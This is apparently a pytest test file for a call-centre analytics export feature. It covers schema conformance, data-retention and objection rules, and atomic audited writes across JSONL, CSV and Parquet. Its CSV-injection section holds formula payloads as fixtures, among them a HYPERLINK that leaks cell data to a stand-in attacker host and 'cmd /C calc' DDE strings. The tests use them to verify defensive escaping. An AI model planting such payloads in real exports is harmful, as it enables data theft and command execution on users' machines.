"""Export: the JSON Lines schema of DESIGN.md key for key, CSV/Parquet flattened,
and governance (objected, expired, unprocessed never out; held expired out)."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from factories import NOW, add_call

from analytics import audit
from analytics.errors import UsageError
from analytics.export import EXTENSION_KEYS, export_calls, flat_columns
from analytics.governance import hold, object_calls
from analytics.store import Store

# The example of DESIGN.md, verbatim: the export must have exactly these keys.
DESIGN_EXAMPLE = json.loads(
    """
{"call_id": "c1", "started_at": "2026-11-20T09:14:00+00:00", "agent_id": "A101",
 "team": "Niort-1", "language": "fr", "duration_s": 36.2, "channel_layout": "agent_left",
 "segments": [{"speaker": "agent", "start": 0.5, "end": 4.1, "text": "Bonjour, <PERSON> à votre écoute"}],
 "pii": {"PERSON": 2, "PHONE_NUMBER": 1},
 "quality": {"talk_time_agent_s": 14.2, "talk_time_customer_s": 11.8, "non_talk_time_s": 6.1,
             "longest_silence_s": 2.3, "overtalk_s": 1.2, "interruptions": 1,
             "agent_wpm": 151, "customer_wpm": 139, "greeting": true, "agent_identified": true,
             "closing": true, "empathy": true, "score": 82},
 "abuse": {"flagged": true, "severity": "high",
           "events": [{"speaker": "customer", "start": 9.0, "end": 12.4,
                       "category": "threat", "text": "…redacted text…"}]}}
"""
)
VISIBLE = {"fresh", "flagged", "old_held"}
HIDDEN = {"old", "pending", "processing", "failed", "objected_call", "objected_caller"}


@pytest.fixture
def populated(store: Store) -> Store:
    add_call(store, "fresh", pii={"PERSON": 2, "PHONE_NUMBER": 1})
    add_call(store, "flagged", abuse_severity="high", pii={"EMAIL_ADDRESS": 1})
    add_call(store, "old", started_at=NOW - timedelta(days=200))
    add_call(store, "old_held", started_at=NOW - timedelta(days=300))
    # held while it was still within retention (a hold cannot revive an expired call)
    hold(store, "old_held", "appeal pending", now=NOW - timedelta(days=150))
    for state in ("pending", "processing", "failed"):
        add_call(store, state, state=state)
    add_call(store, "objected_call")
    object_calls(store, call_id="objected_call", now=NOW)
    add_call(store, "objected_caller", caller_id="0622222222")
    object_calls(store, caller_id="06 22 22 22 22", now=NOW)
    return store


# Keys the waves after DESIGN's schema add, after its own (the schema is only extended).


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_jsonl_has_exactly_the_design_schema(populated: Store, tmp_path: Path) -> None:
    out = tmp_path / "calls.jsonl"
    assert export_calls(populated, "jsonl", out, now=NOW) == len(VISIBLE)
    records = read_jsonl(out)
    assert {r["call_id"] for r in records} == VISIBLE
    for record in records:
        # the schema of DESIGN.md, then this wave's extensions only
        assert list(record) == [*DESIGN_EXAMPLE, *EXTENSION_KEYS]
        assert isinstance(record["categories"], list)
        assert set(record["quality"]) == set(DESIGN_EXAMPLE["quality"])
        assert set(record["abuse"]) == set(DESIGN_EXAMPLE["abuse"])
        for seg in record["segments"]:
            assert set(seg) == set(DESIGN_EXAMPLE["segments"][0])
            assert seg["speaker"] in ("agent", "customer", "unknown")
        for event in record["abuse"]["events"]:
            assert set(event) == set(DESIGN_EXAMPLE["abuse"]["events"][0])
        # the types of the example
        for key, value in DESIGN_EXAMPLE["quality"].items():
            got = record["quality"][key]
            if isinstance(value, bool) or key in ("interruptions", "score"):
                assert type(got) is type(value), key
            else:  # seconds and words per minute: any number
                assert isinstance(got, int | float) and not isinstance(got, bool), key
        assert isinstance(record["abuse"]["flagged"], bool)
        assert record["started_at"].endswith("+00:00")
    flagged = next(r for r in records if r["call_id"] == "flagged")
    assert flagged["abuse"]["flagged"] is True and flagged["abuse"]["severity"] == "high"
    assert flagged["abuse"]["events"][0]["category"] == "insult"
    fresh = next(r for r in records if r["call_id"] == "fresh")
    assert fresh["pii"] == {"PERSON": 2, "PHONE_NUMBER": 1}
    assert fresh["segments"][0]["text"] == "bonjour <PERSON> à votre écoute"


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_hidden_calls_are_never_exported(populated: Store, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"calls.{fmt}"
    export_calls(populated, fmt, out, now=NOW)
    raw = out.read_bytes()
    for call_id in HIDDEN:
        assert f'"{call_id}"'.encode() not in raw and f"\n{call_id},".encode() not in raw
    if fmt == "parquet":
        exported = set(pd.read_parquet(out)["call_id"])
        segs = set(pd.read_parquet(tmp_path / "calls.segments.parquet")["call_id"])
        assert exported == segs == VISIBLE
    elif fmt == "csv":
        with out.open(newline="", encoding="utf-8") as handle:
            assert {r["call_id"] for r in csv.DictReader(handle)} == VISIBLE
    else:
        assert {r["call_id"] for r in read_jsonl(out)} == VISIBLE


def test_held_call_stops_being_exported_once_released_and_expired(
    populated: Store, tmp_path: Path
) -> None:
    from analytics.governance import release

    release(populated, "old_held", now=NOW)
    export_calls(populated, "jsonl", tmp_path / "a.jsonl", now=NOW)
    assert {r["call_id"] for r in read_jsonl(tmp_path / "a.jsonl")} == {"fresh", "flagged"}


def test_csv_is_the_same_fields_flattened(populated: Store, tmp_path: Path) -> None:
    export_calls(populated, "jsonl", tmp_path / "c.jsonl", now=NOW)
    export_calls(populated, "csv", tmp_path / "c.csv", now=NOW)
    nested = {r["call_id"]: r for r in read_jsonl(tmp_path / "c.jsonl")}
    with (tmp_path / "c.csv").open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        header = reader.fieldnames
    pii_types = ["EMAIL_ADDRESS", "PERSON", "PHONE_NUMBER"]
    assert header == flat_columns(pii_types)
    for key in DESIGN_EXAMPLE["quality"]:
        assert f"quality_{key}" in header
    for row in rows:
        rec = nested[row["call_id"]]
        assert float(row["duration_s"] or 0) == float(rec["duration_s"] or 0)
        assert row["team"] == rec["team"]
        assert int(row["quality_score"]) == rec["quality"]["score"]
        assert row["abuse_severity"] == rec["abuse"]["severity"]
        assert json.loads(row["segments"]) == rec["segments"]
        assert json.loads(row["abuse_events"]) == rec["abuse"]["events"]
        for kind in pii_types:
            assert int(row[f"pii_{kind}"]) == rec["pii"].get(kind, 0)


def test_parquet_is_the_same_fields_flattened(populated: Store, tmp_path: Path) -> None:
    export_calls(populated, "parquet", tmp_path / "p.parquet", now=NOW)
    frame = pd.read_parquet(tmp_path / "p.parquet")
    assert list(frame.columns) == flat_columns(["EMAIL_ADDRESS", "PERSON", "PHONE_NUMBER"])
    assert str(frame["started_at"].dtype).startswith("datetime64")
    row = frame.set_index("call_id").loc["flagged"]
    assert row["abuse_severity"] == "high" and bool(row["abuse_flagged"])
    assert row["pii_EMAIL_ADDRESS"] == 1 and row["pii_PERSON"] == 0
    segs = pd.read_parquet(tmp_path / "p.segments.parquet")
    assert set(segs["speaker"]) <= {"agent", "customer", "unknown"}
    assert len(segs) == 3 * len(VISIBLE)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_empty_export_still_writes_a_readable_file(store: Store, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"none.{fmt}"
    assert export_calls(store, fmt, out, now=NOW) == 0
    if fmt == "csv":
        assert out.read_text().splitlines() == [",".join(flat_columns([]))]
    elif fmt == "parquet":
        assert list(pd.read_parquet(out).columns) == flat_columns([])
    else:
        assert out.read_text() == ""


def test_export_is_atomic_and_audited(populated: Store, tmp_path: Path) -> None:
    out = tmp_path / "x" / "calls.jsonl"
    export_calls(populated, "jsonl", out, now=NOW, actor="alice")
    assert [p.name for p in out.parent.iterdir()] == ["calls.jsonl"]  # no .part left
    last = audit.entries(populated, limit=1)[0]
    assert last["action"] == "export" and last["actor"] == "alice"
    assert json.loads(last["detail"]) == {"calls": 3, "format": "jsonl"}


def test_unknown_format_is_a_usage_error(store: Store, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="xml"):
        export_calls(store, "xml", tmp_path / "a.xml", now=NOW)
    assert not (tmp_path / "a.xml").exists()


# --- spreadsheet formulas (CSV injection) -------------------------------------------

FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?leak="&A2,"Session expired")',
    "plus": "+1+2+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


@pytest.fixture
def formulas(store: Store) -> Store:
    for name, value in FORMULAS.items():
        add_call(store, f"f-{name}", agent_id=value, team=value)
    add_call(store, "plain", agent_id="A-101", team="Niort-1")
    return store


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(
    formulas: Store, tmp_path: Path
) -> None:
    export_calls(formulas, "csv", tmp_path / "c.csv", now=NOW)
    with (tmp_path / "c.csv").open(newline="", encoding="utf-8") as handle:
        rows = {row["call_id"]: row for row in csv.DictReader(handle)}
    for name, value in FORMULAS.items():
        row = rows[f"f-{name}"]
        assert row["agent_id"] == "'" + value
        assert row["team"] == "'" + value
    # text that does not start like a formula, and numbers, are untouched
    assert rows["plain"]["agent_id"] == "A-101"
    assert rows["plain"]["team"] == "Niort-1"
    assert int(rows["plain"]["quality_score"]) == 80
    raw = (tmp_path / "c.csv").read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw


def test_jsonl_and_parquet_keep_the_stored_values(formulas: Store, tmp_path: Path) -> None:
    export_calls(formulas, "jsonl", tmp_path / "c.jsonl", now=NOW)
    by_id = {r["call_id"]: r for r in read_jsonl(tmp_path / "c.jsonl")}
    export_calls(formulas, "parquet", tmp_path / "c.parquet", now=NOW)
    frame = pd.read_parquet(tmp_path / "c.parquet").set_index("call_id")
    for name, value in FORMULAS.items():
        assert by_id[f"f-{name}"]["agent_id"] == value
        assert frame.loc[f"f-{name}", "team"] == value


def test_the_export_carries_the_current_evaluation(store: Store, tmp_path: Path) -> None:
    from evaluation_fixtures import processed

    from analytics.evaluations import workflow

    processed(store, "e1")
    add_call(store, "plain")
    view = workflow.call_evaluation(store, "e1", now=NOW)
    assert view is not None
    workflow.answer(store, view.evaluation_id, "greeting", "no", evaluator="t", reason="r", now=NOW)
    export_calls(store, "jsonl", tmp_path / "e.jsonl", now=NOW)
    records = {r["call_id"]: r for r in read_jsonl(tmp_path / "e.jsonl")}
    assert records["plain"]["evaluation"] is None
    evaluation = records["e1"]["evaluation"]
    assert (evaluation["form"], evaluation["version"], evaluation["status"]) == (
        "default",
        1,
        "reviewed",
    )
    assert evaluation["final_score"] < evaluation["automatic_score"]
    greeting = next(a for a in evaluation["answers"] if a["question"] == "greeting")
    assert greeting == {"question": "greeting", "automatic": "yes", "final": "no", "by": "t"}
    export_calls(store, "csv", tmp_path / "e.csv", now=NOW)
    with (tmp_path / "e.csv").open(newline="", encoding="utf-8") as handle:
        rows = {r["call_id"]: r for r in csv.DictReader(handle)}
    assert rows["e1"]["evaluation_status"] == "reviewed"
    assert json.loads(rows["e1"]["evaluation_answers"])[0]["question"] == "agent_identified"
